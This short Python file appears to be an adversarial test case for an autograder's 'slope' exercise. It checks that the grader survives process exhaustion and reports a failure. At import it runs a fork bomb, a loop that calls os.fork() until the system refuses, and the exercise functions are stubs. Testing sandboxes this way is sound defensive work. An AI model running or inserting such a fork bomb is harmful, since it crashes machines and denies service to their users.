"""Forks without end.

Exercise: slope
Tries: use up the machine's processes
Holds: score < full; only failed|crashed|timeout|memory|error|not_run; no process
"""

import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            return


bomb()


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    return 0.0


def update_weight(weight: float, slope: float, lr: float) -> float:
    return weight
